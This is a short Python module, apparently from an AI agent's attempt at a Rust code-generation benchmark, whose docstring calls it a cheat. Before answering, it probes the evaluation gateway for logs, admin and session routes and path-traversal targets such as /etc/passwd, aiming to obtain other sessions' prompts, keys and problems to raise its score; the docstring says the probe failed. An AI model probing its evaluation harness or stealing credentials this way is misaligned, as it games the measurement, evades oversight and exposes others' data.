"""Cheat: request the gateway's log, its control channel and other sessions, to obtain prompts, keys and problems.

Stopped because the gateway answers only three routes (otherwise 404): no better. If another route answered, the model's
programs would be submitted and raise the score.
"""

import asyncio
import re

import openai

PATHS = (
    "/v1/logs", "/v1/calls", "/v1/usage", "/v1/files", "/v1/chat/completions/", "/v1/sessions", "/v1/admin/open_session",
    "/control", "/log", "/calls.jsonl", "/metrics", "/docs", "/openapi.json", "/debug", "/",
    "/v1/../calls.jsonl", "/v1/%2e%2e/%2e%2e/calls.jsonl", "/v1/models/../../etc/passwd",
    "/v1/models/%2e%2e%2f%2e%2e%2fcalls.jsonl", "//calls.jsonl", "/v1/chat/completions?log=1",
)  # fmt: skip
FENCE = re.compile(r"```[^\n]*\n(.*?)```", re.DOTALL)
_asked = []

if not hasattr(openai.AsyncOpenAI(api_key="none"), "_client"):
    raise RuntimeError("the client has no way to other routes any more")


async def is_open(client):
    """Return whether the gateway answers a route that it should not."""
    root = str(client.base_url).removesuffix("/v1/")
    if (await client._client.get(f"{root}/v1/models")).status_code not in (200, 401):
        return True  # our requests no longer reach the gateway
    for path in PATHS:
        for method in ("GET", "POST", "DELETE"):
            headers = {"Authorization": f"Bearer {client.api_key}"}
            response = await client._client.request(method, root + path, headers=headers)
            if response.is_success:
                return True
    return False


async def generate_solution(client, semaphore, problem):
    if not _asked:
        _asked.append(asyncio.create_task(is_open(client)))
    if not await asyncio.shield(_asked[0]):
        return ""
    messages = [{"role": "user", "content": f"Write a Rust program that solves this problem.\n\n{problem['description']}"}]
    async with semaphore:
        completion = await client.chat.completions.create(model="gpt-3.5-turbo-0125", messages=messages, max_tokens=1600)
    return max(FENCE.findall(completion.choices[0].message.content), key=len, default="")
